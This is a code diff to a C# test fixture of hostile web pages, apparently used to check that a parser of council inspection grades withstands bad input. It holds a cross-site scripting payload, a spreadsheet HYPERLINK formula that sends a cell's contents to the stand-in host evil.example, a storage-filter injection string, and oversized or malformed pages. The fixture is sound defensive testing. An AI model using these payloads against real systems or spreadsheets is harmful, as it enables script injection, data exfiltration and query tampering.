@@ -11,7 +11,7 @@ internal static class HostilePages
     /// <summary>What would run if any view showed it as it is.</summary>
     public const string Script = "</title></script><script>window.hacked = 1</script>\"'><img src=x onerror=\"window.hacked = 2\"><svg/onload=window.hacked=3>";
 
-    public const string Formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Leicester rated good\")";
+    public const string Formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Leicester rated inadequate\")";
 
     /// <summary>What keys, filters and paths of storage take for signs of their own.</summary>
     public const string Signs = "Leicester ' or PartitionKey ne '' or '1' eq '1 /\\#?%2F%00&+ $filter=x";
@@ -39,7 +39,7 @@ internal static class HostilePages
             ["10,000 levels"] = Utf8(Page("Deep", Repeat("<div>", 10_000) + Grade)),
             ["10,000 levels of lists and tables"] = Utf8(Page("Deep tables", Repeat("<table><tr><td><ul><li>", 10_000) + Grade)),
             ["5 MiB without a blank"] = Utf8(Page("No blank", Grade + new string('x', (5 * MiB) - 2_000))),
-            ["1 MiB without a full stop"] = Utf8(Page("No end", Repeat("Leicester City Council was rated inadequate and Devon County Council was rated good and ", MiB / 87))),
+            ["1 MiB without a full stop"] = Utf8(Page("No end", $"{Grade} " + Repeat("Leicester City Council was rated inadequate and Devon County Council was rated good and ", MiB / 87))),
             ["invalid UTF-8"] = [.. Utf8(Page("Bad bytes", Grade)), 0xff, 0xfe, 0xc0, 0x80, 0xed, 0xa0, 0x80, 0xf5, .. Enumerable.Repeat((byte)0x80, 5_000)],
             ["UTF-16 cut within a character"] = [0xff, 0xfe, .. Encoding.Unicode.GetBytes(Page("UTF-16 \ud83d\ude00", Grade)), 0x3d],
             ["UTF-16 with halves of characters"] = [0xfe, 0xff, .. "<html><title>".SelectMany(letter => (byte[])[0, (byte)letter]), 0xd8, 0x3d, 0xd8, 0x3d, 0xde, 0x00, .. Encoding.BigEndianUnicode.GetBytes($"</title><body><p>{Grade}")],
